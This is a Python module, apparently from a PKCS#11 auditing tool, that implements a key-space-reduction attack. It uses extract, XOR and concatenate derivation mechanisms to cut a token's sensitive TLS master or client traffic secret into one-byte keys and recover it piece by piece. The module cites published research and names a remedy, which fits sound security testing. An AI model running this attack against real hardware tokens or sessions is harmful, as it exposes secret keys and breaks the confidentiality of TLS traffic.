"""slice: the master or traffic secret taken apart by the mechanisms that cut and join keys."""

from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import Final

from keyfence.cryptoki import Mechanism
from keyfence.cryptoki.constants import CKK, CKM
from keyfence.cryptoki.params import DerivationString, ExtractParams, KeyHandle, Parameters
from keyfence.schedule import Side

from .base import Attack, Bench, Technique
from .carving import CarveAttack, Keeps, Layout, Origin, Piece, Specimen
from .recovery import Master, Recovery, Source, TrafficSecret
from .victim import Kind, Victim

_OWN: Final = b"a key of our own"
"""What is joined to the secret, where something is: long enough that no rule for short keys sees the byte that follows it."""


@dataclass(frozen=True, slots=True)
class Slicer:
    """One mechanism: what its keys may hold, and the call: (bench, the secret's handle, the piece) to (parameter, base key)."""

    mechanism: CKM
    layouts: tuple[Layout, ...]
    call: Callable[[Bench, int, Piece], tuple[Parameters, int]]
    parameter: Callable[[Piece], str] = lambda _: ""
    note: str = ""


def _bit(piece: Piece) -> int:
    """ulBitOffset. A module that cuts the turned value at its end has to be told where the piece stops."""
    return 8 * (piece.stop % piece.total if piece.layout.keeps is Keeps.UP_TO else piece.start)


def _extract(_: Bench, secret: int, piece: Piece) -> tuple[Parameters, int]:
    return ExtractParams(_bit(piece)), secret


def _xor(_: Bench, secret: int, piece: Piece) -> tuple[Parameters, int]:
    """Zeros change nothing, and a short string shortens what comes of it."""
    return DerivationString(bytes(piece.span.length)), secret


def _data(_: Bench, secret: int, __: Piece) -> tuple[Parameters, int]:
    return DerivationString(_OWN), secret


def _key_after(bench: Bench, secret: int, _: Piece) -> tuple[Parameters, int]:
    return KeyHandle(_own_key(bench)), secret


def _key_before(bench: Bench, secret: int, _: Piece) -> tuple[Parameters, int]:
    return KeyHandle(secret), _own_key(bench)


def _own_key(bench: Bench) -> int:
    return bench.import_key(CKK.GENERIC_SECRET, _OWN, derive=True)


_THEN_OURS: Final = (Layout(Keeps.FIRST), Layout(Keeps.LAST, after=_OWN))
_OURS_THEN: Final = (Layout(Keeps.FIRST, before=_OWN), Layout(Keeps.LAST))
_ANYWHERE: Final = (Layout(Keeps.FROM), Layout(Keeps.UP_TO))
_ENDS: Final = (Layout(Keeps.FIRST), Layout(Keeps.LAST))

SLICERS: Final = (
    Slicer(CKM.EXTRACT_KEY_FROM_KEY, _ANYWHERE, _extract, lambda piece: f", ulBitOffset={_bit(piece)}"),
    Slicer(CKM.XOR_BASE_AND_DATA, _ENDS, _xor, lambda piece: f", {piece.span.length} zero bytes"),
    Slicer(CKM.CONCATENATE_BASE_AND_DATA, _THEN_OURS, _data, lambda _: f", {len(_OWN)} bytes of data"),
    Slicer(CKM.CONCATENATE_DATA_AND_BASE, _OURS_THEN, _data, lambda _: f", {len(_OWN)} bytes of data"),
    Slicer(CKM.CONCATENATE_BASE_AND_KEY, _THEN_OURS, _key_after, note="base = the secret, and a key of our own"),
    Slicer(CKM.CONCATENATE_BASE_AND_KEY, _OURS_THEN, _key_before, note="base = a key of our own, and the secret"),
)


class SliceTechnique(Technique):
    id = "slice"
    title = "The secret taken apart by slicing mechanisms"
    summary = (
        "CKM_EXTRACT_KEY_FROM_KEY makes a key of bits from any offset of another; CKM_XOR_BASE_AND_DATA and the "
        "CKM_CONCATENATE mechanisms, either way round, make longer ones that CKA_VALUE_LEN cuts short. The new keys are as "
        "sensitive as the secret, but a key of one byte is found by one use of it, and with the next byte the next, until the "
        "whole master or traffic secret is known."
    )
    section = "PKCS#11 3.2 §6.43 (miscellaneous simple key derivation mechanisms)"
    references = (
        "Clulow, On the Security of PKCS #11, CHES 2003 (key space reduction by CKM_EXTRACT_KEY_FROM_KEY)",
        "Bortolozzo, Centenaro, Focardi, Steel, CCS 2010 (Tookan)",
    )
    remedy = "CKA_ALLOWED_MECHANISMS with TLS's own derivations, and no others, on every secret."
    kinds = frozenset({Kind.SSL3, Kind.TLS10, Kind.TLS12, Kind.TLS13, Kind.SEPARATED})
    one_suite = True

    def attacks(self, victim: Victim) -> Iterable[Attack]:
        return [SliceAttack(victim, slicer) for slicer in SLICERS]


class SliceAttack(CarveAttack):
    """One mechanism on the secret that the session's keys come from."""

    def __init__(self, victim: Victim, slicer: Slicer) -> None:
        super().__init__(victim, slicer.mechanism, victim.secret_length)
        self.slicer = slicer
        self.layouts = slicer.layouts
        self.key = "client traffic secret" if victim.kind is Kind.TLS13 else "master secret"

    @property
    def name(self) -> str:
        return f"{CKM(self.mechanism)} ({self.slicer.note})" if self.slicer.note else str(CKM(self.mechanism))

    def call(self, piece: Piece) -> str:
        operands = self.slicer.note or f"base = the {self.key}"
        return f"C_DeriveKey({CKM(self.mechanism)}, {operands}{self.slicer.parameter(piece)}"

    @property
    def origin(self) -> Origin:
        handles = self.victim.handles
        return Origin(handles.traffic[Side.CLIENT] if self.victim.kind is Kind.TLS13 else handles.master)

    def specimen(self, bench: Bench) -> Specimen:
        known = bench.rehearsal(self.victim)
        return Specimen(Origin(known.handle), known.value)

    def make(self, bench: Bench, origin: Origin, piece: Piece) -> int:
        parameters, base = self.slicer.call(bench, origin.handle, piece)
        return bench.session.derive(Mechanism(self.mechanism, parameters), base, piece.template).handle

    def recovery(self, value: bytes, source: Source) -> Recovery:
        return TrafficSecret(Side.CLIENT, value, source) if self.victim.kind is Kind.TLS13 else Master(value, source)
